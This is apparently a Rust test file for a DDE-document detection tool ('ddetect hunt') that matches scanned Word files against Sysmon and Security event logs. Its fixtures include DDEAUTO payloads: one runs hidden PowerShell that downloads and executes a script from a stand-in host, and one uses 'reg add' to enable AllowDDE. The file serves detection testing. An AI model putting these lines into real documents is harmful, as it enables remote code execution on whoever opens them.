//! `ddetect hunt`: reports and logs in, what was seen out.

use serde_json::json;

use super::support::evtx;
use super::*;

/// A process, as Sysmon 1 says it.
struct Start<'a> {
    host: &'a str,
    guid: &'a str,
    parent_guid: &'a str,
    parent: &'a str,
    image: &'a str,
    line: &'a str,
}

const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
const EXCEL: &str = r"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE";
const CMD: &str = r"C:\Windows\System32\cmd.exe";
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";

impl Start<'_> {
    fn data(&self) -> Value {
        json!({
            "UtcTime": "2026-11-24 10:00:00.000", "ProcessGuid": self.guid, "ProcessId": "1234",
            "Image": self.image, "CommandLine": self.line,
            "ParentProcessGuid": self.parent_guid, "ParentImage": self.parent,
        })
    }

    /// As the readers of EVTX files write it.
    fn nested(&self) -> String {
        json!({"Event": {
            "System": {
                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
                "EventID": {"#text": 1, "#attributes": {"Qualifiers": ""}},
                "Execution": {"#attributes": {"ProcessID": 4, "ThreadID": 8}},
                "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": self.host,
            },
            "EventData": self.data(),
        }})
        .to_string()
    }

    /// As Winlogbeat ships it.
    fn shipped(&self) -> String {
        json!({"@timestamp": "2026-11-24T10:00:01Z", "event": {"code": "1"}, "winlog": {
            "provider_name": "Microsoft-Windows-Sysmon", "event_id": "1",
            "computer_name": self.host, "event_data": self.data(), "process": {"pid": 4},
        }})
        .to_string()
    }

    /// As NXLog and others write it.
    fn flat(&self) -> String {
        let mut row = self.data();
        row["EventID"] = json!(1);
        row["SourceName"] = json!("Microsoft-Windows-Sysmon");
        row["Hostname"] = json!(self.host);
        row["ProcessID"] = json!(4);
        row.to_string()
    }

    /// As the Security log says it.
    fn audited(&self, id: u32, parent: u32) -> String {
        json!({"Channel": "Security", "EventID": 4688, "Computer": self.host,
            "NewProcessName": self.image, "NewProcessId": format!("{id:#x}"),
            "ProcessId": format!("{parent:#x}"), "ParentProcessName": self.parent,
            "CommandLine": self.line})
        .to_string()
    }
}

/// What Word starts for the document of [`malicious`].
fn calc() -> Start<'static> {
    Start {
        host: "PC-7",
        guid: "{A}",
        parent_guid: "{W}",
        parent: WORD,
        image: CMD,
        line: r#""C:\Windows\system32\cmd.exe"  /k  Calc.exe"#,
    }
}

fn value(object: &str, details: &str) -> String {
    json!({"EventID": 13, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "PC-7",
        "UtcTime": "t", "TargetObject": object, "Details": details})
    .to_string()
}

/// The reports of these documents, in a file.
fn reports(folder: &Folder, documents: &[(&str, Vec<u8>)]) -> String {
    for (name, bytes) in documents {
        folder.file(&format!("documents/{name}"), bytes);
    }
    let all = run(&["scan", "--format=jsonl", &folder.path("documents")]);
    folder.file("reports.jsonl", all.out.as_bytes())
}

fn hunt(reports: &str, events: &str) -> Run {
    run(&[
        "hunt",
        "--format=json",
        "--report",
        reports,
        "--events",
        events,
    ])
}

fn found(run: &Run) -> Value {
    serde_json::from_str(&run.out).unwrap_or_else(|error| panic!("{error}: {}{}", run.out, run.err))
}

/// Name, quality and kind of everything that was seen.
fn seen(found: &Value) -> Vec<(String, String, String)> {
    let text = |value: &Value| value.as_str().unwrap().to_owned();
    let mut all = Vec::new();
    for document in found["documents"].as_array().unwrap() {
        let card = &document["card"];
        let name = text(&card["document"]["name"]);
        let name = name.rsplit('/').next().unwrap().to_owned();
        for event in card["observed"].as_array().unwrap() {
            all.push((name.clone(), text(&event["quality"]), text(&event["kind"])));
        }
    }
    all
}

#[test]
fn a_chain_is_seen_in_every_shape_of_log() {
    let folder = Folder::new();
    let reports = reports(
        &folder,
        &[("bad.docx", malicious()), ("good.docx", harmless())],
    );
    let shapes = [
        calc().nested(),
        calc().shipped(),
        calc().flat(),
        calc().audited(9, 8),
    ];
    for row in &shapes {
        let events = folder.file("events.jsonl", row.as_bytes());
        let hunt = hunt(&reports, &events);
        let found = found(&hunt);
        let expected = (
            "bad.docx".to_owned(),
            "exact".to_owned(),
            "process".to_owned(),
        );
        assert_eq!((hunt.status, seen(&found)), (1, vec![expected]), "{row}");
        let document = &found["documents"][0];
        assert_eq!(document["level_before"], "escalate-t2");
        assert_eq!(document["card"]["escalation"]["level"], "contain");
        assert_eq!(document["card"]["observed"][0]["host"], "PC-7");
        assert_eq!(found["events"]["processes"], 1);
    }
    let text = run_with(
        &["hunt", "--report", &reports, "--events", "-"],
        shapes.join("\r\n").as_bytes(),
    );
    for line in [
        "Escalation: contain (without the logs: escalate-t2)",
        "PC-7, sysmon 1 (exact): \"C:\\Windows",
        "PC-7, security 4688 (exact)",
        "1 of 2 documents seen in 4 events (4 processes, 0 registry values)",
    ] {
        assert!(text.out.contains(line), "{line}\n{}", text.out);
    }
}

#[test]
fn other_programs_parents_and_lines_are_no_chain() {
    let folder = Folder::new();
    let reports = reports(&folder, &[("bad.docx", malicious())]);
    let others = [
        Start {
            parent: EXCEL,
            ..calc()
        },
        Start {
            line: "cmd.exe /c ver",
            ..calc()
        },
        Start {
            image: POWERSHELL,
            ..calc()
        },
        Start {
            parent: CMD,
            line: "cmd /k calc.exe",
            ..calc()
        },
        Start {
            parent: r"C:\Windows\explorer.exe",
            line: "cmd /k",
            ..calc()
        },
    ];
    let rows: Vec<_> = others.iter().map(Start::flat).collect();
    let events = folder.file("events.jsonl", rows.join("\n").as_bytes());
    let hunt = hunt(&reports, &events);
    assert_eq!(
        (hunt.status, seen(&found(&hunt)).len()),
        (0, 0),
        "{}",
        hunt.out
    );
}

#[test]
fn a_parent_that_does_not_tell_makes_a_weak_match() {
    let folder = Folder::new();
    let reports = reports(&folder, &[("bad.docx", malicious())]);
    for parent in [r"C:\Windows\System32\svchost.exe", "-"] {
        let row = Start { parent, ..calc() }.flat();
        let events = folder.file("events.jsonl", row.as_bytes());
        let found = found(&hunt(&reports, &events));
        assert_eq!(seen(&found)[0].1, "image", "{parent}");
        assert_eq!(
            found["documents"][0]["card"]["escalation"]["level"],
            "escalate-t2"
        );
    }
}

#[test]
fn an_event_without_a_command_line_is_a_weak_match() {
    let folder = Folder::new();
    let reports = reports(&folder, &[("bad.docx", malicious())]);
    for (line, count) in [("", 1), ("-", 1), ("cmd.exe", 0)] {
        let row = Start { line, ..calc() }.audited(9, 8);
        let events = folder.file("events.jsonl", row.as_bytes());
        let seen = seen(&found(&hunt(&reports, &events)));
        assert!(
            seen.len() == count && seen.iter().all(|row| row.1 == "image"),
            "{line}: {seen:?}"
        );
    }
}

/// A field that starts cmd, which starts PowerShell, which fetches something.
fn nested_chain() -> Vec<u8> {
    fields([
        r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/c powershell -w hidden -c iex (iwr http://a.example/b.ps1)""#,
    ])
}

#[test]
fn what_a_chain_starts_is_known_by_its_parent_in_any_order() {
    let folder = Folder::new();
    let reports = reports(&folder, &[("chain.docx", nested_chain())]);
    let cmd = Start {
        line: "cmd.exe /c powershell -w hidden -c iex (iwr http://a.example/b.ps1)",
        ..calc()
    };
    let shell = Start {
        guid: "{B}",
        parent_guid: "{A}",
        parent: CMD,
        image: POWERSHELL,
        line: "powershell -w hidden -c $x",
        ..calc()
    };
    let stranger = Start {
        parent_guid: "{Z}",
        ..shell
    };
    let elsewhere = Start {
        host: "PC-8",
        ..shell
    };
    for rows in [
        [
            cmd.nested(),
            shell.flat(),
            stranger.flat(),
            elsewhere.flat(),
        ],
        [
            shell.flat(),
            elsewhere.flat(),
            stranger.nested(),
            cmd.nested(),
        ],
    ] {
        let events = folder.file("events.jsonl", rows.join("\n").as_bytes());
        let found = found(&hunt(&reports, &events));
        let mut qualities: Vec<_> = seen(&found).into_iter().map(|row| row.1).collect();
        qualities.sort();
        assert_eq!(qualities, ["exact", "image"], "{found:#}");
    }
    // 4688 has numbers, which are used again.
    let rows = [cmd.audited(16, 8), shell.audited(17, 16)];
    let events = folder.file("events.jsonl", rows.join("\n").as_bytes());
    assert_eq!(seen(&found(&hunt(&reports, &events))).len(), 2);
    let reused = Start {
        image: r"C:\x\other.exe",
        ..cmd
    };
    let rows = [
        cmd.audited(16, 8),
        reused.audited(16, 8),
        shell.audited(17, 16),
    ];
    let events = folder.file("events.jsonl", rows.join("\n").as_bytes());
    assert_eq!(seen(&found(&hunt(&reports, &events))).len(), 1);
}

#[test]
fn a_setting_that_lets_dde_run_is_seen_in_both_logs() {
    let folder = Folder::new();
    let reports = reports(&folder, &[("bad.docx", malicious())]);
    let key = r"HKU\S-1-5-21-1-1001\Software\Microsoft\Office\16.0\Word\Security\AllowDDE";
    let policy = r"\REGISTRY\USER\S-1-5-21-1\SOFTWARE\Policies\Microsoft\Office\16.0\word\security";
    let audited = |name: &str, data: &str| {
        json!({"EventID": 4657, "Channel": "Security", "ObjectName": policy,
            "ObjectValueName": name, "NewValue": data, "Computer": "PC-7"})
        .to_string()
    };
    let hits = [
        value(key, "DWORD (0x00000002)"),
        value(&key.to_lowercase(), "DWORD (0x00000001)"),
        audited("allowdde", "2"),
        audited("AllowDDE", "0x1"),
    ];
    let silent = [
        value(key, "DWORD (0x00000000)"),
        value(&key.replace("Word", "Excel"), "DWORD (0x00000002)"),
        audited("VBAWarnings", "1"),
    ];
    let events = folder.file("hits.jsonl", hits.join("\n").as_bytes());
    let found = found(&hunt(&reports, &events));
    let expected: Vec<_> = seen(&found).into_iter().map(|row| row.2).collect();
    assert_eq!(expected, ["registry-enable"; 4]);
    let events = folder.file("silent.jsonl", silent.join("\n").as_bytes());
    assert_eq!(hunt(&reports, &events).status, 0);
}

#[test]
fn a_value_that_the_payload_sets_is_seen() {
    let folder = Folder::new();
    let payload = fields([
        r#"DDEAUTO c:\\windows\\system32\\cmd.exe "/c reg add HKCU\\Software\\Microsoft\\Office\\16.0\\Word\\Security /v AllowDDE /t REG_DWORD /d 2 /f""#,
    ]);
    let reports = reports(&folder, &[("sets.docx", payload)]);
    let key = r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Word\Security\AllowDDE";
    let row = value(key, "DWORD (0x00000002)");
    let events = folder.file("events.jsonl", row.as_bytes());
    let found = found(&hunt(&reports, &events));
    let kinds: Vec<_> = seen(&found).into_iter().map(|row| row.2).collect();
    assert!(kinds.contains(&"registry-payload".to_owned()), "{found:#}");
    assert_eq!(
        found["documents"][0]["card"]["escalation"]["level"],
        "contain"
    );
}

#[test]
fn evtx_files_are_read_and_damage_is_said() {
    let folder = Folder::new();
    let reports = reports(&folder, &[("bad.docx", malicious())]);
    let start = calc();
    let data = [
        ("ProcessGuid", start.guid),
        ("Image", start.image),
        ("CommandLine", start.line),
        ("ParentImage", start.parent),
    ];
    let sysmon = |id, data| evtx::Event {
        provider: "Microsoft-Windows-Sysmon",
        id,
        computer: "PC-7",
        data,
    };
    let file = evtx::file(&[sysmon(5, &data), sysmon(1, &data), sysmon(1, &data[..1])]);
    let path = folder.file("Sysmon.evtx", &file);
    let whole = hunt(&reports, &path);
    let all = found(&whole);
    assert_eq!((whole.status, seen(&all).len()), (1, 1), "{all:#}");
    let count = &all["events"];
    assert_eq!((&count["rows"], &count["other"]), (&json!(3), &json!(1)));
    assert_eq!(
        (&count["processes"], &count["incomplete"]),
        (&json!(1), &json!(1))
    );
    // The name says nothing.
    let path = folder.file("events.jsonl", &file);
    assert_eq!(hunt(&reports, &path).status, 1);
    // A chunk whose signature is gone, one that is cut off, and a header alone.
    let mut broken = file.clone();
    broken[4096..4100].fill(b'x');
    for (name, bytes) in [
        ("broken", broken.as_slice()),
        ("cut", &file[..4096 + 1000]),
        ("header", &file[..4096]),
    ] {
        let path = folder.file(name, bytes);
        let hunt = hunt(&reports, &path);
        assert_eq!(hunt.status, 2, "{name}: {}{}", hunt.out, hunt.err);
        let found = found(&hunt);
        assert!(
            found["events"]["unreadable"].as_u64().unwrap() > 0,
            "{name}"
        );
        assert!(found["events"]["first_trouble"].is_string(), "{name}");
    }
    let piped = run_with(&["hunt", "--report", &reports, "--events", "-"], &file);
    assert!(
        piped.status == 3 && piped.err.contains("EVTX is read from a file"),
        "{}",
        piped.err
    );
}

#[test]
fn bad_rows_are_counted_and_the_rest_is_read() {
    let folder = Folder::new();
    let reports = reports(&folder, &[("bad.docx", malicious())]);
    let long = Start {
        line: &format!("cmd.exe {}", "x ".repeat(5 << 20)),
        ..calc()
    }
    .flat();
    let rows = [
        "{\"EventID\": 1, \"Image\"".to_owned(),
        "[]".to_owned(),
        "\u{1b}[31m".to_owned(),
        "{}".to_owned(),
        format!("{}{}", "[".repeat(100_000), "]".repeat(100_000)),
        r#"{"EventID":1,"SourceName":"Sysmon"}"#.to_owned(),
        r#"{"EventID":1,"SourceName":"Other","Image":"cmd.exe"}"#.to_owned(),
        r#"{"EventID":3,"SourceName":"Sysmon"}"#.to_owned(),
        r#"{"EventID":13,"SourceName":"Sysmon","TargetObject":5,"Details":[1]}"#.to_owned(),
        long,
        Start {
            host: "\u{1b}[31mPC\u{202e}",
            ..calc()
        }
        .flat(),
    ];
    let events = folder.file("events.jsonl", rows.join("\n").as_bytes());
    let hunt = hunt(&reports, &events);
    let count = &found(&hunt)["events"];
    assert_eq!(count["rows"], 11);
    assert_eq!(count["unreadable"], 5, "{count:#}");
    assert_eq!(count["incomplete"], 2, "{count:#}");
    assert_eq!(count["other"], 2, "{count:#}");
    assert_eq!(seen(&found(&hunt)).len(), 1);
    let text = run(&["hunt", "--report", &reports, "--events", &events]);
    assert!(
        text.out.contains("Not read: 5 events, the first: "),
        "{}",
        text.out
    );
    assert!(
        text.out.contains("line 1: EOF while parsing"),
        "{}",
        text.out
    );
    for shown in [&text.out, &hunt.out] {
        assert!(!shown.contains(['\u{1b}', '\u{202e}']), "{shown}");
    }
}

#[test]
fn the_status_says_what_happened() {
    let folder = Folder::new();
    let reports = reports(&folder, &[("bad.docx", malicious())]);
    let none = folder.file("none.jsonl", b"");
    let damaged = folder.file("damaged.jsonl", b"{");
    let hit = folder.file("hit.jsonl", calc().flat().as_bytes());
    let gone = folder.path("gone");
    let status = |events: &[&str]| {
        let mut arguments = vec!["hunt", "--report", &reports];
        for path in events {
            arguments.extend(["--events", path]);
        }
        run(&arguments).status
    };
    assert_eq!(status(&[&none]), 0);
    assert_eq!(status(&[&damaged]), 2);
    assert_eq!(status(&[&damaged, &gone]), 3);
    assert_eq!(status(&[&damaged, &gone, &hit]), 1);
    let newer = folder.file("newer.json", br#"{"schema":"ddetect/2"}"#);
    let wrong = run(&["hunt", "--report", &newer, "--events", &none]);
    assert!(
        wrong.status == 3 && wrong.err.contains("there is no report"),
        "{}",
        wrong.err
    );
    let twice = run(&["hunt", "--report", "-", "--events", "-"]);
    assert!(
        twice.status == 3 && twice.err.contains("only once"),
        "{}",
        twice.err
    );
    // One report of a later version does not keep the others from being looked for.
    let both = run(&[
        "hunt", "--report", &newer, "--report", &reports, "--events", &hit,
    ]);
    assert!(
        both.status == 1 && both.err.contains("newer.json"),
        "{}",
        both.err
    );
}
